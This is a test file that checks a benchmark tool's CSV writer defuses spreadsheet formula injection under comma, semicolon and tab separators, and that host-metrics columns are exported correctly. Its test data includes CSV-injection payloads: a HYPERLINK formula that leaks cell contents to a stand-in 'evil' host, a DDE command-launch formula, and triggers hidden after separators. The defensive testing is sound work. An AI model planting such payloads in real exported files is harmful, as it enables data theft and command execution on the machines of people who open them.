// One CSV writer for report -f csv, results --csv and import --csv, by OWASP's CSV-injection rules:
// text a spreadsheet would run as a formula starts with an apostrophe; a cell holding a separator
// of either kind (`,` or `;`), a quote, a tab or a line end is quoted; numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvDocument, csvField, renderCsv } from '../../../src/report/csv.ts';
import { runImport } from '../../../src/cli/commands/import.ts';
import { isOurReport } from '../../../src/report/marker.ts';
import type { HostMetrics } from '../../../src/results/record.ts';
import { labRecords } from './helpers.ts';

/**
 * Splits a CSV document the way a reader with this list separator does (Python's csv, LibreOffice,
 * Excel): a quote opens a quoted field only at the start of a field (elsewhere it is text, and
 * after a closing quote the rest is text up to the separator), and an unquoted line end ends the row.
 * Returns every field of every row.
 */
function fields(doc: string, sep: ',' | ';' | '\t'): string[] {
  const out: string[] = [];
  let cur = '';
  let state: 'start' | 'plain' | 'quoted' | 'after-quote' = 'start';
  for (let i = 0; i < doc.length; i++) {
    const ch = doc[i]!;
    if (state === 'quoted') {
      if (ch === '"' && doc[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') state = 'after-quote';
      else cur += ch;
    } else if (ch === sep || ch === '\r' || ch === '\n') {
      out.push(cur);
      cur = '';
      state = 'start';
      if (ch === '\r' && doc[i + 1] === '\n') i++;
    } else if (ch === '"' && state === 'start') state = 'quoted';
    else {
      cur += ch;
      state = 'plain';
    }
  }
  out.push(cur);
  return out;
}

/** What a spreadsheet would evaluate: a cell whose value starts with a formula trigger. */
const isFormula = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);

const ATTACKS = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '-2+3',
  '+2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a;=1+1',
  'a,=1+1',
  'safe;@SUM(A1)',
  '"=1+1',
  // F9: after a `;` inside a quoted cell, a `;` reader starts a new field
  'a;=2*21;.json',
  'x;=2*21;',
  'a;@SUM(2*21);.json',
  'a; =1+1',
  'a;"=1+1"',
  'a;\t=1+1',
  'a,-2+3',
  'a\r\n=1+1',
  'a\n@SUM(1)',
  'a\t+1',
];

describe('csvField (OWASP CSV injection)', () => {
  it('prefixes formula triggers with an apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""click"")"');
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('+2+3')).toBe("'+2+3");
    expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
    // a tab or line end is itself a separator: the piece after it is defused too
    expect(csvField('\t=1+1')).toBe('"\'\t\'=1+1"');
    expect(csvField('\r=1+1')).toBe('"\'\r\'=1+1"');
    expect(csvField('\n=1+1')).toBe('"\'\n\'=1+1"');
  });

  it('quotes a cell with either separator, and defuses every piece a `;` or `,` reader splits off', () => {
    expect(csvField('a;=1+1')).toBe('"a;\'=1+1"');
    expect(csvField('a,=1+1')).toBe('"a,\'=1+1"');
    expect(csvField('a;=2*21;.json')).toBe('"a;\'=2*21;.json"');
    expect(csvField('a; @SUM(1)')).toBe('"a;\' @SUM(1)"');
    expect(csvField('a;"=1"')).toBe('"a;\'""=1"""');
    expect(csvField('a\r\n=1')).toBe('"a\r\n\'=1"');
    expect(csvField('a\r\nb;c')).toBe('"a\r\nb;c"');
    expect(csvField('a"b')).toBe('"a""b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
  });

  it('numbers stay numbers: negative numbers unquoted, numeric text too, non-finite empty', () => {
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(-1e-7)).toBe('-1e-7');
    expect(csvField('-5')).toBe('-5');
    expect(csvField('+1.5e3')).toBe('+1.5e3');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(Infinity)).toBe('');
    expect(csvField(true)).toBe('true');
    expect(csvField(undefined)).toBe('');
  });

  it('no attack string yields a formula cell, whichever list separator the spreadsheet uses', () => {
    // a row starts with the run id, as every row we write does
    const doc = csvDocument(['runId', ...ATTACKS, 'n'], [['r1', ...ATTACKS, -3]]);
    for (const sep of [',', ';', '\t'] as const) {
      const found = fields(doc, sep).filter(isFormula);
      expect(found, JSON.stringify(sep)).toEqual([]);
    }
    // with `,` the cells come back as written, apostrophes aside; the number stays a number
    const all = fields(doc, ',');
    const row = all.slice(ATTACKS.length + 2, 2 * (ATTACKS.length + 2));
    expect(row.at(-1)).toBe('-3');
    expect(row.slice(1, -1).map((c) => c.replace(/(^|\r\n|\r(?!\n)|[,;\t\n])'/g, '$1'))).toEqual(ATTACKS);
  });
});

describe('every CSV path uses the one writer', () => {
  const records = labRecords({ hostileName: 'ds;=1+1', repetitions: 1 }).map((r) => ({ ...r, axes: { ...r.axes, '@axis': '-2+3' }, tool: { ...r.tool, version: '=HYPERLINK("x")' } }));

  it('report -f csv / results --csv (renderCsv): header and values defused', () => {
    const csv = renderCsv(records);
    expect(csv.split('\r\n')[0]).toContain(",'@axis,");
    expect(csv).toContain(`"ds;'=1+1"`);
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain(`"'=HYPERLINK(""x"")"\r\n`);
  });

  it('import --csv prints the same CSV', async () => {
    let out = '';
    const code = await runImport(['x.txt'], { csv: true }, { importFile: async () => ({ format: 'fio-json', records, warnings: [] }), stdout: (t) => (out += t), stderr: () => undefined });
    expect(code).toBe(0);
    expect(out).toBe(renderCsv(records));
  });
});

describe('the host figures in the long CSV', () => {
  const [plain, ...rest] = labRecords({ repetitions: 1 });
  const vsphere: HostMetrics = {
    source: 'vsphere-perf',
    from: '2024-01-01T00:00:00Z',
    to: '2024-01-01T00:01:00Z',
    intervalSec: 20,
    samples: 3,
    samplesInside: 1,
    virtualDisk: { instance: 'scsi0:1', readIops: 1200, writeIops: 0, readKBps: 4800, writeKBps: 0, readLatencyMs: 2, writeLatencyMs: null, latencyMs: 2 },
    datastore: { instance: 'ds-uuid', readIops: 1210, writeIops: 3, readKBps: 4840, writeKBps: 12, readLatencyMs: 3, writeLatencyMs: 1, latencyMs: 3 },
    latencyUs: 2000,
    latencySpan: 'virtual disk',
    notes: ['no sample wholly inside the test', 'datastore counter: 20 s'],
  };
  const esxtop: HostMetrics = {
    source: 'esxtop',
    from: '2024-01-01T00:00:00Z',
    to: '2024-01-01T00:00:10Z',
    intervalSec: 2,
    samples: 5,
    samplesInside: 4,
    esxtop: { device: 'naa.600', davgMs: 0.5, kavgMs: 0.03, gavgMs: 0.53, qavgMs: 0.01, readIops: 900, writeIops: 10 },
    latencyUs: 530,
    latencySpan: 'GAVG',
  };
  const records = [plain!, { ...rest[0]!, host: vsphere }, { ...rest[1]!, host: esxtop }, { ...rest[2]!, host: { source: 'esxtop' as const, unavailable: 'esxtop not found' } }];
  const [header, ...rows] = renderCsv(records)
    .split('\r\n')
    .filter((l) => l !== '')
    .map((l) => fields(l, ','));
  const col = (row: string[] | undefined, name: string) => {
    const i = header!.indexOf(name);
    expect(i, name).toBeGreaterThanOrEqual(0);
    return row![i];
  };

  it('one column per host figure, named by its path in the record JSON, before tool/toolVersion (the header still reads as our report)', () => {
    expect(header!.filter((h) => h.startsWith('host.'))).toEqual([
      'host.source',
      'host.unavailable',
      'host.latencyUs',
      'host.latencySpan',
      'host.from',
      'host.to',
      'host.intervalSec',
      'host.samples',
      'host.samplesInside',
      ...['virtualDisk', 'datastore'].flatMap((k) => ['instance', 'readIops', 'writeIops', 'readKBps', 'writeKBps', 'readLatencyMs', 'writeLatencyMs', 'latencyMs'].map((f) => `host.${k}.${f}`)),
      ...['device', 'davgMs', 'kavgMs', 'gavgMs', 'qavgMs', 'readIops', 'writeIops'].map((f) => `host.esxtop.${f}`),
      'host.notes',
    ]);
    expect(header!.slice(header!.indexOf('cpuPercent') + 1, header!.indexOf('host.notes') + 1).every((h) => h.startsWith('host.'))).toBe(true);
    expect(header!.slice(-2)).toEqual(['tool', 'toolVersion']);
    expect(isOurReport(renderCsv(records))).toBe(true);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
  });

  it('the figures a record carries, beside its guest latency; empty where it has none', () => {
    const [none, vs, esx, unavailable] = rows;
    expect(header!.filter((h) => h.startsWith('host.')).map((h) => col(none, h))).toEqual(header!.filter((h) => h.startsWith('host.')).map(() => ''));
    expect(col(vs, 'latencyMeanUs')).not.toBe('');
    expect([col(vs, 'host.source'), col(vs, 'host.unavailable'), col(vs, 'host.latencyUs'), col(vs, 'host.latencySpan'), col(vs, 'host.samples'), col(vs, 'host.samplesInside'), col(vs, 'host.intervalSec')]).toEqual(['vsphere-perf', '', '2000', 'virtual disk', '3', '1', '20']);
    expect([col(vs, 'host.virtualDisk.instance'), col(vs, 'host.virtualDisk.readLatencyMs'), col(vs, 'host.virtualDisk.writeLatencyMs'), col(vs, 'host.datastore.latencyMs'), col(vs, 'host.datastore.writeKBps')]).toEqual(['scsi0:1', '2', '', '3', '12']);
    expect(col(vs, 'host.esxtop.gavgMs')).toBe('');
    expect(col(vs, 'host.notes')).toBe('no sample wholly inside the test; datastore counter: 20 s');
    expect([col(esx, 'host.source'), col(esx, 'host.latencyUs'), col(esx, 'host.esxtop.device'), col(esx, 'host.esxtop.davgMs'), col(esx, 'host.esxtop.kavgMs'), col(esx, 'host.esxtop.gavgMs'), col(esx, 'host.esxtop.qavgMs')]).toEqual(['esxtop', '530', 'naa.600', '0.5', '0.03', '0.53', '0.01']);
    expect(col(esx, 'host.virtualDisk.latencyMs')).toBe('');
    expect([col(unavailable, 'host.source'), col(unavailable, 'host.unavailable'), col(unavailable, 'host.latencyUs'), col(unavailable, 'host.samples')]).toEqual(['esxtop', 'esxtop not found', '', '']);
  });
});
